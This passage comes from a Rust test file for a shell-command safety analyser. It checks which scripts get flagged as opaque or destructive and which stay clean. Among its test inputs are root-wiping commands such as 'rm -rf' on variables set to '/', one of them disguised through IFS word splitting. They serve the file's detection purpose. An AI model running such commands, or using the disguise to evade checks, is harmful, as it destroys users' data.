    // Were allowed before Opaque findings existed: the targets are only known at run time.
    ("rm -rf \"$TMPDIR/x\"", "dynamic-argument"),
    ("rm -rf \"${BUILD_DIR:?}\"/*", "dynamic-argument"),
    ("rm -rf -- \"$BUILD_DIR\"", "dynamic-argument"),
    ("trap 'rm -rf \"$WORKDIR\"' EXIT", "dynamic-argument"),
];

#[test]
fn must_be_opaque_table() {
    for (script, rule) in MUST_BE_OPAQUE {
        let findings = analyse_shell(script);
        assert!(
            rules(&findings).contains(rule),
            "{script:?} should report {rule}: {findings:?}"
        );
        assert!(
            findings
                .iter()
                .filter(|f| f.rule.id() == *rule)
                .all(|f| f.rule.kind() == super::Kind::Opaque)
        );
    }
}

/// Unknown values resolved to a destructive command are Destructive, not only Opaque.
#[test]
fn resolved_values_are_destructive() {
    for script in [
        "set -- /; rm -rf \"$1\"",
        "IFS=,; cmd=rm,-rf,/; $cmd",
        "X=/; rm -rf \"$X\"",
    ] {
        let found = rules(&analyse_shell(script));
        assert!(found.contains(&"rm-root"), "{script:?}: {found:?}");
    }
}

/// Literal benign commands and ordinary uses of unknown values stay clean.
const MUST_STAY_CLEAN: &[&str] = &[
    "rm -rf ./build",
    "echo 'rm -rf /'",
    "grep -r \"rm -rf /\" .",
    "cargo build",
    "python3 -c \"print(1)\"",
    "python3 script.py",
    "find . -name '*.o' -delete",
    "make -j4",
    "for f in *.txt; do wc -l \"$f\"; done",
    "x=$(git rev-parse HEAD); echo \"$x\"",
    "docker build .",
    "kubectl get pods",
    "git push origin main",
    "echo \"$x\"",
    "cd \"$DIR\"",
    "mkdir -p \"$OUT\"",
    "cp a \"$OUT\"",
    "run() { \"$@\"; }; run make",
    "echo hi | sh",
    "sh -c 'echo \"$1\"' _ \"$x\"",
    "cat <<EOF | psql\nSELECT 1;\nEOF",
];

#[test]
fn must_stay_clean_table() {
    for script in MUST_STAY_CLEAN {
        let findings = analyse_shell(script);
        assert!(findings.is_empty(), "{script:?}: {findings:?}");
    }
}

#[test]
fn known_environment_values_are_used() {
    let env: BTreeMap<String, String> = [("BUILD_DIR".to_owned(), "build".to_owned())].into();
    assert!(super::analyse_shell("rm -rf \"$BUILD_DIR\"/*", &env).is_empty());
    let root: BTreeMap<String, String> = [("BUILD_DIR".to_owned(), "/".to_owned())].into();
    let found = super::analyse_shell("rm -rf \"$BUILD_DIR\"", &root);
    assert_eq!(rules(&found), vec!["rm-root"]);
    // Without the environment the same script is opaque (or destructive when it may be empty).
    assert!(!analyse_shell("rm -rf \"$BUILD_DIR\"/*").is_empty());
    // Nested shells inherit it.
    assert!(super::analyse_shell("sh -c 'rm -rf \"$BUILD_DIR\"/*'", &env).is_empty());
}
